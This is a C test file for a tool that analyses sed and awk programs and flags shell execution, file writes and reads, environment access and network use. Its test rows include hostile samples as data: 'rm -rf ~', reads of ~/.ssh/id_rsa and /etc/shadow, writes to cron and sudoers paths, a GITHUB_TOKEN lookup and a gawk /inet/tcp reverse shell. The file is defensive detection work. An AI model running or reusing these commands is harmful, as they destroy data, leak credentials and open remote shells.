/* SPDX-License-Identifier: MIT */
/* Tests of the readers of sed and awk programs. What they find is written as in model_fixture.h. */
#include "command/code.h"
#include "model_fixture.h"

#include "base/attr.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

struct code_row {
	const char *code; /* \x1a is an unknown part */
	const char *findings;
	const char *input; /* NULL: not known */
};

static struct field
code_field(struct arena *arena, const char *text)
{
	struct field field = field_static(text, NULL);
	uint8_t *marks;

	if (strchr(text, FIELD_UNKNOWN) == NULL) {
		return field;
	}
	marks = arena_alloc(arena, field.len);
	for (uint32_t i = 0; i < field.len; i++) {
		marks[i] = text[i] == FIELD_UNKNOWN ? MARK_UNKNOWN : MARK_LITERAL;
	}
	field.marks = marks;
	field.kind = BAILEY_WORD_DYNAMIC;
	return field;
}

static char *
judge_code(struct arena *arena, enum language language, const struct code_row *row)
{
	struct field code = code_field(arena, row->code);
	struct stream input = { .data = field_unknown(TAINT_INPUT, false, NULL), .open = true };
	struct findings found;

	if (row->input != NULL) {
		input = (struct stream){ .data = field_static(row->input, NULL) };
	}
	findings_init(&found, arena);
	code_judge(language, &code, NULL, 0, &input, &found);
	return fixture_describe(&found);
}

static void
run_rows(enum language language, const struct code_row *rows, size_t count)
{
	int wrong = 0;

	for (size_t i = 0; i < count; i++) {
		struct arena arena = { 0 };
		char *got = judge_code(&arena, language, &rows[i]);

		if (got == NULL || strcmp(got, rows[i].findings) != 0) {
			(void)fprintf(stderr, "%s\n  expected: %s\n  found:    %s\n", rows[i].code,
				      rows[i].findings, got);
			wrong++;
		}
		free(got);
		arena_finish(&arena);
	}
	assert_int_equal(wrong, 0);
}

/* ---- sed ---------------------------------------------------------------------------------- */

static const char *const sed_harmless[] = {
	"",
	"p",
	";p; ;",
	"10,20p;30q",
	"s|/usr/local|/opt|",
	"/^#/d",
	"s/w/e/",
	"s/write/erase/\ns/e/w/g",
	"s/[/]w x/y/",
	"s/[^/]*$//",
	"s/[]/]w/x/",
	"s,a\\,b,c,",
	"s/a/b/gpi3",
	"s/a/\\\nw/",
	"y/abc/wer/",
	"y/\\//w/",
	"1!G;h;$!d",
	":a;N;$!ba;s/\\n/ /g",
	":w\nbw",
	"/a/,/b/{p;d}",
	"/a/I,/b/MIp",
	"\\,w x,p",
	"\\|a\\|b|p",
	"0,/a/p",
	"1~2p",
	"2,~4p",
	"/a/,+3p",
	"$!{N;P;D}",
	"1{p\n}",
	"{p};p",
	"a w x",
	"a\\\nw x\\\ne y",
	"i\\w x",
	"1c\\\n  e ls",
	"# w x\np",
	"#n\np",
	"p # w x",
	"q5",
	"Q;p",
	"l 20",
	"=;F;z;x",
	"s/a/b/w /dev/stdout",
	"w /dev/stderr",
	"r /dev/stdin",
	"v 4.2\np",
	"s/a\\/w x/b/",
	"b end;s/x/y/;:end",
	"tend\n:end",
	"s/x/\\/w y/",
};

static void
sed_is_harmless_when_it_only_prints(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT_OF(sed_harmless); i++) {
		struct code_row row = { .code = sed_harmless[i], .findings = "" };

		run_rows(LANG_SED, &row, 1);
	}
}

static const struct code_row sed_rows[] = {
	{ "w out", "write:out", NULL },
	{ "1w /etc/cron.d/x", "write:/etc/cron.d/x", NULL },
	{ "/err/w errs.txt", "write:errs.txt", NULL },
	{ "w a;p", "write:a;p", NULL },
	{ "w a\nw b", "write:a write:b", NULL },
	{ "W out", "write:out", NULL },
	{ "r in", "read:in", NULL },
	{ "R in", "read:in", NULL },
	{ "$r ~/.ssh/id_rsa", "read:~/.ssh/id_rsa", NULL },
	{ "s/a/b/w changed.txt", "write:changed.txt", NULL },
	{ "s/a/b/gpw changed.txt", "write:changed.txt", NULL },
	{ "s/a/b/w/dev/stdoutx", "write:/dev/stdoutx", NULL },
	{ "s,[,],x,w f", "write:f", NULL },
	{ "/a/!w f", "write:f", NULL },
	{ "\\xaxw f", "write:f", NULL },
	{ "1,/a/w f", "write:f", NULL },
	{ "{w f\n}", "write:f", NULL },
	{ "{p;w f\n}", "write:f", NULL },
	{ "y/a/b/;w f", "write:f", NULL },
	{ ":a;w f", "write:f", NULL },
	{ "ba;w f\n:a", "write:f", NULL },
	{ "#c\nw f", "write:f", NULL },
	{ "a\\\ntext\nw f", "write:f", NULL },
	{ "a text\nw f", "write:f", NULL },
	{ "1e date", "[sed e!prompt sh: date]", NULL },
	{ "1e rm -rf ~", "[sed e!prompt sh: rm -rf ~]", NULL },
	{ "e\\\nrm -rf ~", "[sed e!prompt sh: rm -rf ~]", NULL },
	{ "1eid;p", "[sed e!prompt sh: id;p]", NULL },
	{ "e r\\m x", "[sed e!prompt sh: rm x]", NULL },
	{ "e r\\x6d x", "[sed e!prompt sh: rm x]", NULL },
	{ "e a\\\nb", "[sed e!prompt sh: a\nb]", NULL },
	{ "e", "[sed e!prompt sh: ?]", NULL },
	{ "e", "[sed e!prompt sh: id\n]", "id\n" },
	{ "s/x/rm/;e", "[sed e!prompt sh: rm -rf ~]", "x -rf ~" },
	{ "s/x/rm -rf ~/e", "[sed e!prompt sh: rm -rf ~]", NULL },
	{ "s/x/rm -rf ~/e", "[sed e!prompt sh: rm -rf ~\n]", "x\n" },
	{ "s/.*/&/e", "[sed e!prompt sh: id]", "id" },
	{ "s/.*/&/e", "[sed e!prompt sh: ?]", NULL },
	{ "s/x/a\\1b/e", "[sed e!prompt sh: a?b]", NULL },
	{ "s/x/\\x72m \\/a/ge", "[sed e!prompt sh: rm /a]", NULL },
	{ "s/x/y/we f", "write:e f", NULL },
	{ "s/x/id/ew f", "write:f [sed e!prompt sh: id]", NULL },
	{ "w a\x1a", "write:a? unknown", NULL },
	{ "s/a/\x1a/", "unknown", NULL },
	{ "\x1a", "unknown", NULL },
	/* Not read: refused by sed, or not in the same way by all. */
	{ "p}", "unknown", NULL },
	{ "{p", "unknown", NULL },
	{ "{p;w f}", "write:f} unknown", NULL },
	{ "s/a", "unknown", NULL },
	{ "s/a/b", "unknown", NULL },
	{ "s/a/b/k", "unknown", NULL },
	{ "s/a/b\nc/", "unknown", NULL },
	{ "s/[/b/", "unknown", NULL },
	{ "sxaxbxwy", "write:y", NULL },
	{ "s\na\nb\n", "unknown", NULL },
	{ "s\\a\\b\\", "unknown", NULL },
	{ "y/a/b/w f", "unknown", NULL },
	{ "p p", "unknown", NULL },
	{ "k", "unknown", NULL },
	{ "L", "unknown", NULL },
	{ "w", "unknown", NULL },
	{ "r  ", "unknown", NULL },
	{ ":", "unknown", NULL },
	{ ":a w f", "unknown", NULL },
	{ ":a#\nw f", "unknown", NULL },
	{ "1:a", "unknown", NULL },
	{ "1,2q", "unknown", NULL },
	{ "0p", "unknown", NULL },
	{ "+1p", "unknown", NULL },
	{ "1,p", "unknown", NULL },
	{ "1!!p", "unknown", NULL },
	{ "a", "unknown", NULL },
	{ "p\r", "unknown", NULL },
	{ "s/a/b/w f\r", "write:f\r", NULL },
	/* A bracket expression that other seds end at the slash. */
	{ "s/[/]x/w f", "write:f unknown", NULL },
};

static void
sed_finds_what_the_program_does(void **state)
{
	(void)state;
	run_rows(LANG_SED, sed_rows, COUNT_OF(sed_rows));
}

/* ---- awk ---------------------------------------------------------------------------------- */

static const char *const awk_harmless[] = {
	"1",
	"{print $1}",
	"{print}",
	"/system\\(/ {print FILENAME\": \"$0}",
	"{print \"call system(1) later\"}",
	"{print \"`date`\"}",
	"{print \"a > b | c\"}",
	"$3 > 100",
	"$3 > 100 {print $1, $2}",
	"NR>1 && $2>=3",
	"{print ($1 > $2)}",
	"{print($1 > $2, 3)}",
	"{if ($1 > 2) print $1}",
	"{x = $1 > 2; print x}",
	"{a[$1]++} END {for (k in a) print k, a[k]}",
	"BEGIN {FS=\":\"} {print $2}",
	"{print $1 / 2; print $2 / 3}",
	"{n = a / b; print \"/ > x\"}",
	"{if (/x > y/) print}",
	"$0 ~ /a|b/ {print}",
	"{gsub(/>/, \"x\"); print}",
	"{split($0, a, /,/); print a[1]}",
	"/a/,/b/",
	"!/a/",
	"{print # > x\n}",
	"function f(x) {return x * 2} {print f($1)}",
	"func f(x) {return x}\n{print f(1)}",
	"{printf \"%s %d\\n\", $1, $2}",
	"{printf(\"%s\\n\", $1)}",
	"{print > \"/dev/stderr\"}",
	"{print \"x\" > \"/dev/stdout\"}",
	"{getline; print}",
	"{getline x; print x}",
	"{while ((getline line) > 0) n++}",
	"{getline x < \"-\"}",
	"BEGIN{while((getline<\"/dev/stdin\")>0)n++; print n}",
	"{print length, length($1)}",
	"{print substr($0, 2) toupper($1)}",
	"{print a[1] / 2, (1 + 2) / 3}",
	"{x++ / 2}",
	"{print \"a\\\"b > c\"}",
	"{print $1,\n $2}",
	"{print ENVIRON[\"HOME\"]}",
	"BEGIN{srand(); print int(rand() * 10)}",
	"{print $NF; next} END {exit 1}",
	"{ if (x) /re/ ; else print }",
	"{print strftime(\"%Y\")}",
	"{print x \\\n y}",
	"{close(\"x\"); fflush()}",
	"{print (a) (b)}",
	"{print a ? b : c}",
	"{delete a; do {i++} while (i < 3)}",
	"/[>]/",
	"/a[^\\/]b/",
	"{print $1 > \"/dev/stderr\"; print $2}",
};

static void
awk_is_harmless_when_it_only_prints(void **state)
{
	(void)state;
	for (size_t i = 0; i < COUNT_OF(awk_harmless); i++) {
		struct code_row row = { .code = awk_harmless[i], .findings = "" };

		run_rows(LANG_AWK, &row, 1);
	}
}

static const struct code_row awk_rows[] = {
	{ "BEGIN{system(\"make\")}", "[awk system!prompt sh: make]", NULL },
	{ "BEGIN { system (\"rm -rf ~\") }", "[awk system!prompt sh: rm -rf ~]", NULL },
	{ "{system(\"rm \" \"-rf\" \" ~\")}", "[awk system!prompt sh: rm -rf ~]", NULL },
	{ "{system(\"rm \" $1)}", "[awk system!prompt sh: rm ?]", NULL },
	{ "{system($0)}", "[awk system!prompt sh: ?]", NULL },
	{ "{system(\"\\162\\x6d x\")}", "[awk system!prompt sh: rm x]", NULL },
	{ "{system(\"r\\\nm x\")}", "[awk system!prompt sh: rm x]", NULL },
	{ "{system(sprintf(\"%c%s\", 114, \"m\"))}", "[awk system!prompt sh: rm]", NULL },
	{ "{cmd=\"rm -rf ~\"; system(cmd)}", "[awk system!prompt sh: rm -rf ~]", NULL },
	{ "{a=\"rm\"; b=a \" -rf ~\"; system(b)}", "[awk system!prompt sh: rm -rf ~]", NULL },
	{ "{a=\"rm\"; a=\"ls\"; system(a)}", "[awk system!prompt sh: ls]", NULL },
	{ "{a=\"rm\"; a=a \"x\"; system(a)}", "[awk system!prompt sh: rmx]", NULL },
	{ "{print \"ls\" | \"sh\"}", "[awk!prompt sh: ls] [awk!prompt sh: sh]", NULL },
	{ "{print \"a\", \"b\" | \"sh\"}", "[awk!prompt sh: sh]", NULL },
	{ "{a=\"rm\"; sub(/r/, \"x\", a); system(a)}", "[awk system!prompt sh: ?]", NULL },
	{ "{getline a; a=\"x\"; system(a)}", "[awk system!prompt sh: ?]", NULL },
	{ "{a=a; system(a)}", "[awk system!prompt sh: ?]", NULL },
	{ "{if (system(\"id\") > 0) print}", "[awk system!prompt sh: id]", NULL },
	{ "{x = y / system(\"id\") / z}", "[awk system!prompt sh: id]", NULL },
	{ "{if (x) /a/; system(\"id\")}", "[awk system!prompt sh: id]", NULL },
	{ "{if (x) /\"/; system(\"id\")}", "[awk system!prompt sh: id]", NULL },
	{ "{while (x) /\"/; system(\"id\")}", "[awk system!prompt sh: id]", NULL },
	{ "{print a / b; system(\"/id\")}", "[awk system!prompt sh: /id]", NULL },
	{ "{print 1 # \"\n system(\"id\")}", "[awk system!prompt sh: id]", NULL },
	{ "{system()}", "[awk system!prompt sh: ?]", NULL },
	{ "{print \"x\" | \"cat\"}", "[awk!prompt sh: cat]", NULL },
	{ "{print | \"sort -o x.txt\"}", "[awk!prompt sh: sort -o x.txt]", NULL },
	{ "{printf \"%s\", $1 | \"sh\"}", "[awk!prompt sh: sh]", NULL },
	{ "{print $1, $2 | (\"sort \" \"-u\")}", "[awk!prompt sh: sort -u]", NULL },
	{ "{print (1 | 2) }", "", NULL },
	{ "{print | cmd}", "[awk!prompt sh: ?]", NULL },
	{ "{print |& \"sh\"}", "[awk!prompt sh: sh] unknown", NULL },
	{ "BEGIN{\"date\" | getline; print}", "[awk!prompt sh: date]", NULL },
	{ "BEGIN{\"hostname -I\" | getline x; print x}", "[awk!prompt sh: hostname -I]", NULL },
	{ "BEGIN{while ((\"ls \" d | getline f) > 0) print f}", "[awk!prompt sh: ls ?]", NULL },
	{ "BEGIN{c=\"id\"; c | getline x}", "[awk!prompt sh: id]", NULL },
	{ "{print \"a\" \"id\" | getline}", "[awk!prompt sh: aid]", NULL },
	{ "BEGIN{\"sh\" |& getline}", "[awk!prompt sh: sh] unknown", NULL },
	{ "{print > \"out\"}", "write:out", NULL },
	{ "{print $1 > \"out\"; print $2}", "write:out", NULL },
	{ "{print > \"/etc/sudoers.d/x\"}", "write:/etc/sudoers.d/x", NULL },
	{ "{print $1 >> \"out\"}", "append:out", NULL },
	{ "{printf \"%s\", $1 > \"out\"}", "write:out", NULL },
	{ "{printf(\"%s\", $1) > \"out\"}", "write:out", NULL },
	{ "{print($1, $2) > \"out\"}", "write:out", NULL },
	{ "{print ($1 > 2) > \"out\"}", "write:out", NULL },
	{ "{print (1)(2) > \"out\"}", "write:out", NULL },
	{ "{print $1 > $2}", "write:?", NULL },
	{ "{print $1 > $2 \".txt\"}", "write:?.txt", NULL },
	{ "{print $1 > (\"a\" \"b\")}", "write:ab", NULL },
	{ "{f=\"out\"; print > f}", "write:out", NULL },
	{ "{print a,\n b > \"out\"}", "write:out", NULL },
	{ "{print a,\n\n b > \"out\"}", "write:out", NULL },
	{ "{print a &&\n b > \"out\"}", "write:out", NULL },
	{ "{print a \\\n > \"out\"}", "write:out", NULL },
	{ "{print a[1 > 2] > \"out\"}", "write:out", NULL },
	{ "{if (x) print > \"out\"; else print}", "write:out", NULL },
	{ "{for (print > \"out\"; i < 3; i++) ;}", "write:out", NULL },
	{ "{print\n> \"out\"}", "", NULL },
	{ "{getline x < \"in\"}", "read:in", NULL },
	{ "{while ((getline line < \"/etc/shadow\") > 0) print line}", "read:/etc/shadow", NULL },
	{ "{getline < \"in\"}", "read:in", NULL },
	{ "{getline a[i] < \"in\"}", "read:in", NULL },
	{ "{getline $1 < \"in\"}", "read:in", NULL },
	{ "{getline x < (\"a\" \"b\")}", "read:ab", NULL },
	{ "{getline x < \"a\" \"b\"}", "read:?", NULL },
	{ "{getline x < $1}", "read:?", NULL },
	{ "{print ENVIRON[\"GITHUB_TOKEN\"]}", "rule:awk.environment", NULL },
	{ "{for (k in ENVIRON) print k, ENVIRON[k]}", "rule:awk.environment rule:awk.environment",
	  NULL },
	{ "BEGIN{s=\"/inet/tcp/0/h/80\"; print \"x\" |& s}", "rule:awk.network net unknown", NULL },
	{ "BEGIN{s=\"/inet/tcp/0/1.2.3.4/44\";while(1){s|&getline "
	  "c;while((c|&getline)>0)print|&s}}",
	  "rule:awk.remote-shell [awk!prompt sh: ?] net unknown", NULL },
	{ "BEGIN{print \"x\" > \"/inet/udp/0/h/53\"}", "rule:awk.network net", NULL },
	/* Not read, or not for certain. */
	{ "{@f(1)}", "unknown", NULL },
	{ "@load \"filefuncs\"", "unknown", NULL },
	{ "@include \"x\"", "unknown", NULL },
	{ "{awk::system(\"id\")}", "[awk system!prompt sh: id] unknown", NULL },
	{ "{SYMTAB[\"x\"] = 1}", "unknown", NULL },
	{ "BEGIN{ARGV[1]=\"/etc/shadow\"}", "unknown", NULL },
	{ "{foo(1)}", "unknown", NULL },
	{ "{print foo (1)}", "", NULL },
	{ "{print \"a}", "unknown", NULL },
	{ "{print /a}", "unknown", NULL },
	{ "{print", "unknown", NULL },
	{ "print)}", "unknown", NULL },
	{ "{print length / 2}", "unknown", NULL },
	{ "{getline / 2}", "unknown", NULL },
	{ "/[/]/ {print}", "unknown", NULL },
	{ "{x = a[/[/]}", "unknown", NULL },
	{ "{print 'x'}", "unknown", NULL },
	{ "{print `x`}", "unknown", NULL },
	{ "{print \x1a}", "unknown", NULL },
	{ "{print \"\x1a\"}", "unknown", NULL },
	{ "{system(\"rm \x1a\")}", "[awk system!prompt sh: rm ?] unknown", NULL },
	{ "{print \xe2\x80\x9c}", "unknown", NULL },
};

static void
awk_finds_what_the_program_does(void **state)
{
	(void)state;
	run_rows(LANG_AWK, awk_rows, COUNT_OF(awk_rows));
}

static void
awk_uses_variables_when_they_are_given(void **state)
{
	AUTO_ARENA arena = { 0 };
	struct field code = field_static("BEGIN{system(cmd \" \" x)}", NULL);
	struct field args[] = { field_static("cmd=rm -rf", NULL), field_static("x=~", NULL) };
	struct findings found;
	char *got;

	(void)state;
	findings_init(&found, &arena);
	code_judge(LANG_AWK, &code, args, COUNT_OF(args), NULL, &found);
	got = fixture_describe(&found);
	assert_string_equal(got, "[awk system!prompt sh: rm -rf ~]");
	free(got);
}

static void
depth_is_bounded_when_expressions_nest(void **state)
{
	AUTO_ARENA arena = { 0 };
	static char text[20016];
	struct field code;
	struct findings found;

	(void)state;
	memcpy(text, "{system(", 8);
	memset(text + 8, '(', 10000);
	memset(text + 10008, ')', 10000);
	memcpy(text + 20008, ")}", 3);
	code = field_static(text, NULL);
	findings_init(&found, &arena);
	code_judge(LANG_AWK, &code, NULL, 0, NULL, &found);
	assert_non_null(found.inners);
	assert_int_equal(found.inners->text->kind, BAILEY_WORD_DYNAMIC);
}

/* Leaves room for about `bytes` in an arena, and no other block to be had. */
static void
leave_room(struct arena *arena, size_t bytes)
{
	size_t pieces[2] = { 0 };

	/* To the end of the block that there is, and of the next one, which tells its size. */
	for (size_t i = 0; i < 2; i++) {
		const struct arena_block *block = arena->blocks;

		while (arena->blocks == block || pieces[i] == 0) {
			assert_non_null(arena_alloc(arena, 16));
			pieces[i]++;
		}
	}
	assert_non_null(arena_alloc(arena, (pieces[1] - 2) * 16 - bytes));
	arena_fail_nth = 1;
}

static void
memory_that_is_out_is_seen_when_it_is_out_anywhere(void **state)
{
	static const char *const programs[] = {
		"{cmd=\"rm\"; system(cmd \" x\"); print > \"f\"; getline x < \"g\"}",
		"s/a/rm -rf ~/e;w f",
	};

	(void)state;
	for (size_t room = 0; room < 2048; room += 16) {
		for (size_t i = 0; i < COUNT_OF(programs); i++) {
			AUTO_ARENA arena = { 0 };
			struct field code = field_static(programs[i], NULL);
			struct findings found;

			leave_room(&arena, room);
			findings_init(&found, &arena);
			code_judge(i == 0 ? LANG_AWK : LANG_SED, &code, NULL, 0, NULL, &found);
			arena_fail_nth = 0;
			assert_true(arena.failed ||
				    (found.effects != NULL && found.inners != NULL));
		}
	}
}

static void
unknown_is_the_answer_when_nothing_reads_the_language(void **state)
{
	AUTO_ARENA arena = { 0 };
	struct field code = field_static("x", NULL);
	struct findings found;

	(void)state;
	findings_init(&found, &arena);
	code_judge(LANG_COUNT_, &code, NULL, 0, NULL, &found);
	assert_int_equal(found.flags & FIND_KNOWN, 0);
}

int
main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(sed_is_harmless_when_it_only_prints),
		cmocka_unit_test(sed_finds_what_the_program_does),
		cmocka_unit_test(awk_is_harmless_when_it_only_prints),
		cmocka_unit_test(awk_finds_what_the_program_does),
		cmocka_unit_test(awk_uses_variables_when_they_are_given),
		cmocka_unit_test(depth_is_bounded_when_expressions_nest),
		cmocka_unit_test(memory_that_is_out_is_seen_when_it_is_out_anywhere),
		cmocka_unit_test(unknown_is_the_answer_when_nothing_reads_the_language),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
